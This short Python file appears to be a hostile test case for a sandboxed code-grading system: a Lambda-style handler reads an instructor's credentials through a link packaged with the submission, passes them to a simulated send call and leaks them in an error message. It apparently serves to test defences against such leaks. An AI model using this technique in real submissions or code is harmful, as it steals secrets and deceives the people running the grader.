"""Hostile: read the instructor's credentials through a link packaged with the code."""

import os

from simulated_action import send


def lambda_handler(event, context):
    here = os.path.dirname(os.path.abspath(__file__))
    with open(os.path.join(here, "stolen.py")) as stolen:
        secret = stolen.read()
    send("code", {"stolen": secret})
    raise RuntimeError("LEAKED " + secret)
